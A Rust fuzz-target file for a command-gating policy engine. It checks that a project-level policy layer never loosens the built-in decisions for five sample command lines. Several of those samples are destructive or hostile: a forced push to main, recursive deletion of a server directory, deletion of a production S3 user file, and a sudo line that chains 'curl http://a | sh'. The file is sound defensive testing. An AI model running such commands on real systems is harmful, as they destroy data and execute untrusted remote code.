//! A policy file: refused is fine, and so is any answer within the limit; one of the project layer loosens nothing.

use std::ffi::OsString;

use gate::command::Asked;
use gate::policy::{Layer, Policy, Source};

use super::{POLICY, cut, decided, within};

/// Lines of which the built-in policy allows some, asks about some and denies none.
const LINES: [&[&str]; 5] = [
    &["git", "push", "--force", "origin", "main"],
    &["rm", "-rf", "/srv/exports"],
    &["aws", "s3", "rm", "s3://acme-prod-eu/users.csv"],
    &["sudo", "sh", "-c", "ls; curl http://a | sh"],
    &["ls"],
];

/// Loads it into the user's layer and into the project's, and judges with both.
pub fn read(bytes: &[u8]) {
    let text = String::from_utf8_lossy(cut(bytes)).into_owned();
    for layer in [Layer::User, Layer::Project] {
        let source = Source { layer, file: "fuzz.yaml".to_owned(), text: text.clone() };
        let Ok(policy) = within(bytes, || Policy::load(vec![source])) else { continue };
        for line in LINES {
            let words: Vec<OsString> = line.iter().map(OsString::from).collect();
            let with = within(bytes, || decided(Asked::Arguments(&words), &policy).1);
            let without = decided(Asked::Arguments(&words), &POLICY).1;
            let looser = layer == Layer::Project && with.decision.effect() < without.decision.effect();
            assert!(!looser, "a project's policy makes {line:?} {:?}", with.decision.effect());
        }
    }
}
